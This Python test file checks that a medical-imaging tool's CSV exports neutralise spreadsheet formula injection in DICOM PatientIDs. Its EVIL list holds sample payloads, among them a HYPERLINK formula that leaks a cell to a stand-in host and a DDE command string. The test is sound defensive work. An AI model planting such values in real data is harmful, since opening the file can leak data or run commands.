"""Issue 20 item 8: a PatientID such as ``=HYPERLINK(...)`` was written as is into metadata.csv and index.csv,
where a spreadsheet runs it as a formula. Such text cells now start with a single quote (OWASP)."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

from pneumoseg.util.csvsafe import safe_cell
from tests.helpers.dicom import write_dicom

EVIL = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3"]


@pytest.mark.parametrize("value, expected", [
    *[(v, "'" + v) for v in EVIL], ("\tTAB", "'\tTAB"), ("\r=1", "'\r=1"),
    ("-3", "-3"), ("+1.5e3", "+1.5e3"), ("P-1", "P-1"), ("", ""), (7, 7), (-1.0, -1.0), (None, None),
])
def test_safe_cell(value: object, expected: object) -> None:
    assert safe_cell(value) == expected


def _cells(path: Path, column: str) -> list[str]:
    with path.open(newline="", encoding="utf-8") as f:
        return [row[column] for row in csv.DictReader(f)]


def test_explore_and_prepare_neutralise_patient_ids(tmp_path: Path) -> None:
    from pneumoseg.cli.main import app

    src = tmp_path / "dicoms"
    for i, patient in enumerate(EVIL):
        write_dicom(src / f"{i}.dcm", np.full((32, 32), 40 * i, np.uint8), patient=patient)
    runner = CliRunner()
    result = runner.invoke(app, ["explore", str(src), "--out", str(tmp_path / "explore"), "--no-progress"])
    assert result.exit_code == 0, result.output
    assert sorted(_cells(tmp_path / "explore" / "metadata.csv", "patient_id")) == sorted("'" + v for v in EVIL)
    rle = tmp_path / "rle.csv"
    rle.write_text("ImageId,EncodedPixels\n" + "".join(f"{i},-1\n" for i in range(len(EVIL))))
    result = runner.invoke(app, ["prepare", "--dicom-dir", str(src), "--rle", str(rle), "--out", str(tmp_path / "cache"),
                                 "--no-progress"])
    assert result.exit_code == 0, result.output
    assert sorted(_cells(tmp_path / "cache" / "index.csv", "patient_id")) == sorted("'" + v for v in EVIL)
